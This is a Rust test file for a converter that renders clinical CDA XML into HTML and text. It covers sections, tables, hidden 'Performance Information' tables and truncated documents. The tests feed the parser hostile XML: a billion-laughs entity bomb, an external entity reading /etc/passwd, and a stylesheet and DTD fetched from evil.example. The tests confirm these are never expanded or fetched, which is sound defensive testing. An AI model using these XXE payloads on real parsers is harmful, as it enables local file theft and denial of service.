//! CDA documents and other XML, kind and hostile.

use exchange::document::{Kind, html, sniff, text};

const SUMMARY: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Visit &amp; summary</title>
<recordTarget><patientRole><addr>not shown</addr></patientRole></recordTarget>
<component><structuredBody>
<component><section><code code="48765-2"/><title>Allergies</title><text><paragraph>Penicillin: <content styleCode="Bold">hives</content></paragraph>
<table><thead><tr><th>Agent</th><th colspan="2">Reaction</th></tr></thead><tbody><tr><td>Nuts &lt;all&gt;</td><td>Swelling<br/>of the face</td></tr></tbody></table></text>
<entry><act><text>not narrative</text></act></entry>
<component><section><title>Inner</title><text><list listType="ordered"><item>first</item><item><caption>Note</caption>second</item></list></text></section></component></section></component>
<component><section><title>Medications</title><text><content revised="delete">Warfarin 5 mg</content> <content revised="insert">Warfarin 2 mg</content></text></section></component>
</structuredBody></component></ClinicalDocument>"#;

#[test]
fn sections_stand_in_order_with_titles_text_and_tables() {
    assert_eq!(sniff(SUMMARY.as_bytes(), Some("text/html")), Kind::Xml);
    let shown = html(SUMMARY.as_bytes(), Kind::Xml).unwrap();
    assert_eq!(
        shown.replace("\n", ""),
        "<h1>Visit &amp; summary</h1><h2>Allergies</h2><div><p>Penicillin: <b>hives</b></p><table><thead><tr><th>Agent</th>\
         <th colspan=\"2\">Reaction</th></tr></thead><tbody><tr><td>Nuts &lt;all&gt;</td><td>Swelling<br>of the face</td></tr>\
         </tbody></table></div><h3>Inner</h3><div><ol><li>first</li><li><strong>Note</strong> second</li></ol></div>\
         <h2>Medications</h2><div><del>Warfarin 5 mg</del> <ins>Warfarin 2 mg</ins></div>"
    );
    let words = text(SUMMARY.as_bytes(), Kind::Xml).unwrap().unwrap();
    assert!(
        words.contains(
            "Visit & summary\nAllergies\nPenicillin: hives\nAgent Reaction\nNuts <all> Swelling\nof the face"
        ),
        "{words}"
    );
}

fn section(body: &str) -> String {
    let xml = format!(
        "<ClinicalDocument><component><section><title>Results</title><text>{body}</text></section></component></ClinicalDocument>"
    );
    html(xml.as_bytes(), Kind::Xml).unwrap()
}

#[test]
fn the_table_headed_performance_information_is_not_shown_and_said_so() {
    let inside = "<tr><td>server 7</td></tr>";
    let headed = [
        format!("<table><caption>Performance Information</caption>{inside}</table>"),
        format!("<table><thead><tr><th>Performance\n Information</th></tr></thead>{inside}</table>"),
        format!("<paragraph>Performance information:</paragraph><table>{inside}</table>"),
        format!(
            "<list><item><caption>Performance Information</caption><table>{inside}</table></item></list>"
        ),
    ];
    for body in headed {
        let shown =
            section(&format!("<paragraph>K 5.1</paragraph>{body}<table><tr><td>Na 140</td></tr></table>"));
        assert!(shown.contains("K 5.1") && shown.contains("Na 140"), "{shown}");
        assert!(
            !shown.contains("server 7") && shown.contains("is in the file and not shown here"),
            "{shown}"
        );
    }
}

#[test]
fn a_table_that_only_speaks_of_it_is_shown() {
    let shown = section("<table><tr><td>K</td><td>Performance Information</td></tr></table>");
    assert!(shown.contains("<td>Performance Information</td>"), "{shown}");
    let shown = section(
        "<paragraph>Performance Information</paragraph><paragraph>see below</paragraph><table><tr><td>K 5.1</td></tr></table>",
    );
    assert!(shown.contains("K 5.1"), "{shown}");
}

#[test]
fn entities_of_a_document_s_own_are_never_expanded_or_fetched() {
    let mut laughs = String::from("<!DOCTYPE x [<!ENTITY a0 'ha'>");
    for n in 1..12 {
        let ten = format!("&a{};", n - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY a{n} '{ten}'>"));
    }
    laughs.push_str(
        "<!ENTITY out SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;]>",
    );
    let body = "<ClinicalDocument><component><section><title>T</title><text>a &a11; b &out; c &lt; d</text></section></component></ClinicalDocument>";
    let xml = format!("{laughs}{body}");
    assert_eq!(sniff(xml.as_bytes(), None), Kind::Xml);
    let shown = html(xml.as_bytes(), Kind::Xml).unwrap();
    assert_eq!(shown, "<h2>T</h2><div>a &amp;a11; b &amp;out; c &lt; d</div>");
    let other = format!("{laughs}<note>a &a11; b</note>");
    assert_eq!(text(other.as_bytes(), Kind::Xml).unwrap().unwrap(), "a &a11; b");
}

#[test]
fn a_document_that_breaks_off_is_shown_up_to_there_and_says_so() {
    let cut = &SUMMARY[..SUMMARY.find("of the face").unwrap()];
    let shown = html(cut.as_bytes(), Kind::Xml).unwrap();
    assert!(shown.contains("Penicillin") && shown.contains("Swelling"), "{shown}");
    let broken = "<ClinicalDocument><title>T</title><component><section><text>seen</text><title <";
    assert!(html(broken.as_bytes(), Kind::Xml).unwrap().contains("cannot be read"));
}

#[test]
fn a_body_that_is_a_file_is_named() {
    let xml = "<ClinicalDocument><title>Scan</title><component><nonXMLBody><text mediaType=\"application/pdf\" representation=\"B64\">JVBERi0=</text></nonXMLBody></component></ClinicalDocument>";
    let shown = html(xml.as_bytes(), Kind::Xml).unwrap();
    assert!(shown.contains("application/pdf") && !shown.contains("JVBERi0"), "{shown}");
}

#[test]
fn other_xml_gives_its_words_and_no_html() {
    let xml = "<Observation xmlns='http://hl7.org/fhir'><text>Potassium</text><code><![CDATA[5 < 6]]></code></Observation>";
    assert_eq!(html(xml.as_bytes(), Kind::Xml), None);
    assert_eq!(text(xml.as_bytes(), Kind::Xml).unwrap().unwrap(), "Potassium\n5 < 6");
}
